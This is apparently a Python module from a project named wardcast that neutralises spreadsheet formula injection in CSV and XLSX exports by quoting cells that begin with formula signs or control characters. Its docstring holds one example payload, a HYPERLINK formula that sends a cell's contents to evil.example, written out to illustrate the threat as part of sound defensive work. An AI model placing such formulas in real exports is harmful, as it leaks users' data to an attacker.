"""CSV cells that a spreadsheet shows as text and never runs as a formula.

A station chooses the ``reason`` of its own events, staff choose titles and names, and
people open exports in Excel or LibreOffice: ``=HYPERLINK("http://evil.example/?leak="&A1,
"Click")`` in a cell would be a live formula there. Every CSV that wardcast writes goes through
``safe_row`` (OWASP's advice: a text cell that starts like a formula gets a leading single
quote), and the XLSX files mark the same cells as text (``looks_like_formula``).

What counts as "starts like a formula" follows the OWASP testing guide (WSTG-INPV-21):
``=``, ``+``, ``-``, ``@``, their full-width forms (``＝``, ``＋``, ``－``, ``＠``: Excel takes
them in East Asian locales), and tab, CR, LF (and NUL, ASVS 1.2.10) as a first character.
Leading spaces do not hide a sign: Google Sheets, LibreOffice with "trim spaces" and some
converters strip them before they look. And a cell is not always cut where the writer meant:
Excel where the list separator is ``;`` (Vietnamese Windows among others) opens a comma CSV
split at every ``;`` and line break, so each such piece of a text is checked as a cell of
its own.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

SIGNS = "=+-@＝＋－＠"
# a first character that some spreadsheet reads as the start of a formula (or a DDE command)
CONTROLS = ("\t", "\r", "\n", "\0")
# where a piece that a spreadsheet may read as a cell starts: the text's start, or after a
# `;` or a line break (any number of spaces and tabs may come before the sign)
_PIECE = re.compile(rf"(^|[;\r\n])(?=[^\S\r\n]*[{re.escape(SIGNS)}])")


def looks_like_formula(text: str) -> bool:
    """Tell whether a spreadsheet could read this text, or a piece of it, as a formula."""
    return text.startswith(CONTROLS) or _PIECE.search(text) is not None


def safe_cell(value: object) -> object:
    """Return the value, with a single quote before each piece of a text that starts like a
    formula (the whole text first); numbers and other values as they are."""
    if not isinstance(value, str) or not looks_like_formula(value):
        return value
    quoted = _PIECE.sub(r"\1'", value)
    return f"'{quoted}" if quoted.startswith(CONTROLS) else quoted


def safe_row(values: Iterable[object]) -> list[object]:
    """Return a row with every text cell made safe; numbers stay numbers (-12 is -12)."""
    return [safe_cell(value) for value in values]


BOM = "\ufeff"  # Excel reads a CSV as UTF-8 only when it starts with this


def csv_media_type(*, bom: bool) -> str:
    """Return the Content-Type of a CSV that does or does not start with a byte order mark.

    With the mark, the charset is utf-8-sig: a script that decodes by the header (httpx,
    requests) then reads the first column's name without the mark, while the file's bytes,
    which Excel opens, keep it.
    """
    return f"text/csv; charset={'utf-8-sig' if bom else 'utf-8'}"
